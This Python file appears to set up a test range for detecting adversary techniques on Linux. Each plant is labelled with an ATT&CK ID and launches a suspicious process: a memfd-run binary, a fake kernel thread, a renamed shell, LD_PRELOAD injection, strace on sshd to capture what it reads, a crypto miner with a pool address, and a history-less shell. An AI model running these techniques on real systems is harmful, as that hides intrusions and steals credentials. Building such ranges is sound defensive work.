"""Programs that run now and are not what they say."""
import os

from parts.unit import Register, require

plant = Register("plant")


def maps(g, name):
    """The memory map of a named process."""
    return g.read(f"/proc/{g.processes[name]}/maps")


@plant("P100", "program deleted after its start", "T1070.004 T1036", ["/var/tmp/netd"], {"process": "netd"}, "ATT&CK T1070.004; Atomic T1070.004-1",
       check=lambda g: require(g.exe("netd") == "/var/tmp/netd (deleted)", g.exe("netd")))
def deleted_program(g):
    g.program("/var/tmp/netd", "netd")
    g.start("netd", ["netd", "-d"], path="/var/tmp/netd", script="thread\tnetd-io")
    os.unlink("/var/tmp/netd")


@plant("P101", "program run from memory only", "T1620", ["memfd:", "polkitd"], {"process": "memory-program"}, "ATT&CK T1620; Atomic T1620 (memfd)",
       check=lambda g: require(g.exe("memory-program").startswith("/memfd:"), g.exe("memory-program")))
def memory_program(g):
    g.program("/tmp/.m", "memory")
    g.start("memory-program", ["/usr/lib/policykit-1/polkitd", "--no-debug"], path="/tmp/.m", memfd="a", script="comm\tpolkitd")
    os.unlink("/tmp/.m")


@plant("P102", "program in a hidden folder of shared memory", "T1564.001 T1059", ["/dev/shm/.snapd/cached"], {"process": "cached", "path": "/dev/shm/.snapd/cached"}, "ATT&CK T1564.001; Atomic T1564.001-1")
def shared_memory_program(g):
    g.program("/dev/shm/.snapd/cached", "cached")
    g.start("cached", ["/dev/shm/.snapd/cached"], script="tick")


@plant("P103", "program in a hidden folder of /tmp", "T1564.001 T1036.005", ["/tmp/.X25-unix/xfs"], {"process": "xfs", "path": "/tmp/.X25-unix/xfs"}, "ATT&CK T1564.001")
def temporary_program(g):
    g.program("/tmp/.X25-unix/xfs", "xfs", owner="www-data")
    g.start("xfs", ["./xfs"], path="/tmp/.X25-unix/xfs", cwd="/tmp/.X25-unix", user="www-data", script="comm\txfs")


@plant("P104", "user program that calls itself a kernel thread", "T1036.004 T1036.011 T1036", ["kworker/0:2", "/var/lib/dpkg/.kw"], {"process": "false-kworker", "path": "/var/lib/dpkg/.kw"}, "ATT&CK T1036.004; Atomic T1036.004")
def false_kernel_thread(g):
    g.program("/var/lib/dpkg/.kw", "kw")
    g.start("false-kworker", ["[kworker/0:2]"], path="/var/lib/dpkg/.kw", env={}, script="comm\tkworker/0:2")


@plant("P105", "copy of a shell that runs under a daemon's name", "T1036.005 T1036.003 T1036", ["/usr/share/fonts/.d/systemd-resolved"], {"process": "false-resolved", "path": "/usr/share/fonts/.d/systemd-resolved"}, "ATT&CK T1036.005, T1036.003; Atomic T1036.003-2",
       check=lambda g: require(g.exe("false-resolved") == "/usr/share/fonts/.d/systemd-resolved", g.exe("false-resolved")))
def renamed_shell(g):
    g.copy("/bin/dash", "/usr/share/fonts/.d/systemd-resolved", 0o755)
    os.mkfifo("/usr/share/fonts/.d/q")
    orders = os.open("/usr/share/fonts/.d/q", os.O_RDWR)
    g.start("false-resolved", ["/lib/systemd/systemd-resolved"], path="/usr/share/fonts/.d/systemd-resolved", descriptors={0: orders})
    os.close(orders)


@plant("P106", "process with a preloaded library in its environment", "T1574.006", ["/usr/local/lib/.gcrypt.so", "LD_PRELOAD"], {"process": "preloaded"}, "ATT&CK T1574.006; Atomic T1574.006-2",
       check=lambda g: require("/usr/local/lib/.gcrypt.so" in maps(g, "preloaded"), "not mapped"))
def preloaded(g):
    g.write("/usr/local/lib/.gcrypt.so", g.helpers["quiet"] + b"\0gcrypt")
    g.start("preloaded", ["/usr/bin/sleep", "864000"], env={"LD_PRELOAD": "/usr/local/lib/.gcrypt.so", "PATH": "/usr/bin:/bin"})
    g.wait_for(lambda: ".gcrypt.so" in maps(g, "preloaded"), "preloaded library")


@plant("P107", "writable and executable memory that belongs to no file", "T1055 T1620", ["gssd-helper", "rwx"], {"process": "injected", "path": "/usr/local/sbin/gssd-helper"}, "ATT&CK T1055",
       check=lambda g: require("rwxp" in maps(g, "injected"), "no such memory"))
def injected(g):
    g.program("/usr/local/sbin/gssd-helper", "gssd")
    g.start("injected", ["/usr/local/sbin/gssd-helper"], script="rwx\nmemfd-exec\tld-cache")


@plant("P108", "strace keeps what sshd reads", "T1056 T1003.007 T1055.008 T1003", ["strace", "/var/tmp/.sshd.trace"], {"process": "tracer", "path": "/var/tmp/.sshd.trace"}, "ATT&CK T1003.007, T1056",
       check=lambda g: require(f"TracerPid:\t{g.processes['tracer']}" in g.read(f"/proc/{g.processes['sshd']}/status"), "not traced"))
def traced_sshd(g):
    pid = g.processes["sshd"]
    g.start("tracer", ["strace", "-p", str(pid), "-e", "trace=read,write", "-s", "256", "-o", "/var/tmp/.sshd.trace"], path="/usr/bin/strace")
    g.wait_for(lambda: f"TracerPid:\t{g.processes['tracer']}" in g.read(f"/proc/{pid}/status"), "tracer")


@plant("P109", "miner with its pool", "T1496.001 T1496", ["stratum+tcp", "/usr/share/.cfg/kthrotl"], {"process": "miner", "path": ["/usr/share/.cfg/kthrotl", "/usr/share/.cfg/config.json"]}, "ATT&CK T1496.001; Atomic T1496-1",
       check=lambda g: require(g.connected(3333), "no connection"))
def miner(g):
    g.program("/usr/share/.cfg/kthrotl", "kthrotl")
    wallet = "48" + "aB3dE5fG7hJ9kL" * 6
    g.write("/usr/share/.cfg/config.json", '{"autosave": true, "donate-level": 1, "pools": [{"url": "stratum+tcp://203.0.113.120:3333", "user": "' + wallet + '", "pass": "x", "algo": "rx/0"}]}\n')
    g.start("miner", ["./kthrotl", "-o", "stratum+tcp://203.0.113.120:3333", "-u", wallet, "-p", "x", "--donate-level=1", "-B"], path="/usr/share/.cfg/kthrotl", cwd="/usr/share/.cfg",
            script="comm\tkthrotl\ntcp-connect\t203.0.113.120\t3333\t10.20.0.15\ntick")


@plant("P110", "deleted file of loot still open", "T1070.004 T1074.001", ["/var/log/.fsck.log", "fsckd"], {"process": "loot-holder"}, "ATT&CK T1070.004",
       check=lambda g: require(any(os.readlink(f"/proc/{g.processes['loot-holder']}/fd/{n}") == "/var/log/.fsck.log (deleted)" for n in os.listdir(f"/proc/{g.processes['loot-holder']}/fd")), "not open"))
def deleted_open(g):
    g.write("/var/log/.fsck.log", "admin:Winter-2026!\ndeploy:c1-pipeline\n" * 40, 0o600)
    g.program("/usr/lib/tmpfiles.d/fsckd", "fsckd")
    g.start("loot-holder", ["fsckd"], path="/usr/lib/tmpfiles.d/fsckd", script="comm\tfsckd\nopen\t/var/log/.fsck.log\nunlink\t/var/log/.fsck.log")


@plant("P111", "shell that keeps no history", "T1562.003 T1070.003", ["HISTFILE=/dev/null", "/var/tmp/.p"], {"process": "no-history"}, "ATT&CK T1562.003; Atomic T1562.003-2, T1070.003",
       check=lambda g: require("HISTFILE=/dev/null" in g.read(f"/proc/{g.processes['no-history']}/environ"), "no such variable"))
def no_history(g):
    os.mkfifo("/var/tmp/.p")
    orders = os.open("/var/tmp/.p", os.O_RDWR)
    g.start("no-history", ["bash", "--norc"], path="/bin/bash", user="www-data", cwd="/var/tmp", descriptors={0: orders},
            env={"HISTFILE": "/dev/null", "HISTSIZE": "0", "HOME": "/var/www", "PATH": "/usr/bin:/bin", "TERM": "xterm"})
    os.close(orders)


@plant("P112", "web server's account runs a shell that looks around", "T1505.003 T1059.004", ["linpeas", "/tmp/.q3", "www-data"], {"process": "web-child"}, "ATT&CK T1059.004, T1505.003")
def web_child(g):
    g.write("/tmp/linpeas.sh", "#!/bin/sh\nfind / -perm -4000 2>/dev/null\nread x <&3\n", 0o755, "www-data")
    os.mkfifo("/tmp/.q3")
    wait = os.open("/tmp/.q3", os.O_RDWR)
    g.start("web-child", ["sh", "-c", "read x <&3; sh /tmp/linpeas.sh -a"], path="/bin/sh", user="www-data", cwd="/var/www/shop", descriptors={3: wait}, unit="system.slice/nginx.service")
    os.close(wait)
